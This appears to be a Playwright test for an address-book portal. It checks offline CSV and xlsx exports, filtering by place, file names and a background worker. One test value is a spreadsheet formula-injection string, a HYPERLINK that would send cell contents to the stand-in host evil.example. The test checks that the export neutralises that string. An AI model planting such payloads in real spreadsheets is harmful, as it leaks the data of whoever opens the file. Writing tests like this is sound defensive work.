import { expect, test } from '@playwright/test'
import Papa from 'papaparse'
import { readSheet } from 'read-excel-file/node'
import { AddressExportDialog, filterByPlace } from './pages/address-export'
import { createAddressOffline, openAddressBook } from './pages/portal'

/** Issue 24: the address book leaves as CSV or xlsx from the replica, so offline too. */

const HEADERS = [
  'Anrede',
  'Name',
  'Kontakt',
  'Strasse',
  'PLZ',
  'Ort',
  'Telefon',
  'Standard-Absenderadresse',
  'Standard-Empfängeradresse',
  'Standard-Rechnungsadresse',
  'Rechnungsadresse',
]
const PLACE = HEADERS.indexOf('Ort')
const NAME = HEADERS.indexOf('Name')

/** Today on the Zurich wall clock, as the file is named. */
const zurichToday = () =>
  new Intl.DateTimeFormat('en-CA', {
    timeZone: 'Europe/Zurich',
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
  }).format(new Date())

function csvRows(bytes: Buffer): string[][] {
  expect([...bytes.subarray(0, 3)], 'a UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf])
  const text = bytes.subarray(3).toString('utf8')
  expect(text.endsWith('\r\n')).toBe(true)
  const parsed = Papa.parse<string[]>(text, { delimiter: ';', newline: '\r\n', skipEmptyLines: true })
  expect(parsed.errors).toEqual([])
  return parsed.data
}

/** Every cell as text; an empty cell reads as null from the sheet and as '' from the CSV. */
const xlsxRows = async (bytes: Buffer) =>
  (await readSheet(bytes)).map((row) => row.map((cell) => (cell === null ? '' : String(cell))))

/** The page's own count of the rows it lists, "Eintrag 1 – 20 von 1’234". */
async function listedTotal(page: import('@playwright/test').Page): Promise<number> {
  const text = (await page.getByText(/Eintrag \d+ – \d+ von [\d’']+/).textContent()) ?? ''
  return Number(/von ([\d’']+)/.exec(text)?.[1]?.replace(/[’']/g, ''))
}

test('offline, the address book exports all and the filtered addresses as CSV and xlsx', async ({ page }) => {
  test.setTimeout(120_000)
  await page.addInitScript(() => localStorage.setItem('language', 'de'))
  const hostile = `=HYPERLINK("http://evil.example/?q="&A1;"Klick") ${Date.now()}`
  await openAddressBook(page)
  // Made offline and still waiting: the export reads the replica, not the server. It stays offline.
  await createAddressOffline(page, hostile)
  await expect(page.locator('table tbody tr', { hasText: hostile })).toBeVisible()
  const exporter = new AddressExportDialog(page)
  // The workbook is written in a worker of its own, so the page stays responsive.
  const workers: string[] = []
  page.on('worker', (worker) => workers.push(worker.url()))
  const total = await listedTotal(page)
  expect(total).toBeGreaterThan(20)

  await exporter.open()
  expect(await exporter.countOf('all')).toBe(total)
  await expect(exporter.scope('filtered')).toHaveCount(0)
  const allCsv = await exporter.download('all', 'csv')
  expect(allCsv.name).toBe(`addresses-${zurichToday()}.csv`)
  const all = csvRows(allCsv.bytes)
  expect(all[0]).toEqual(HEADERS)
  expect(all).toHaveLength(total + 1)
  expect(all.map((row) => row[NAME])).toContain(`'${hostile}`)
  for (const row of all.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)

  await exporter.open()
  const allXlsx = await exporter.download('all', 'xlsx')
  expect(allXlsx.name).toBe(`addresses-${zurichToday()}.xlsx`)
  const allSheet = await xlsxRows(allXlsx.bytes)
  expect(workers.filter((url) => /xlsx\.worker/.test(url))).toHaveLength(1)
  expect(allSheet).toEqual(all)

  await filterByPlace(page, 'Bern')
  const filteredTotal = await listedTotal(page)
  expect(filteredTotal).toBeGreaterThan(0)
  expect(filteredTotal).toBeLessThan(total)

  await exporter.open()
  expect(await exporter.countOf('filtered')).toBe(filteredTotal)
  await expect(exporter.scope('filtered')).toBeChecked()
  const filteredXlsx = await exporter.download('filtered', 'xlsx')
  const filtered = await xlsxRows(filteredXlsx.bytes)
  expect(filtered[0]).toEqual(HEADERS)
  expect(filtered).toHaveLength(filteredTotal + 1)
  for (const row of filtered.slice(1)) expect(String(row[PLACE]).toLowerCase()).toContain('bern')
  expect(filtered.map((row) => row[NAME])).toContain(`'${hostile}`)

  await exporter.open()
  const filteredCsv = await exporter.download('filtered', 'csv')
  expect(csvRows(filteredCsv.bytes)).toEqual(filtered)

  // The choice of all stays while a filter is set.
  await exporter.open()
  expect(csvRows((await exporter.download('all', 'csv')).bytes)).toHaveLength(total + 1)
})
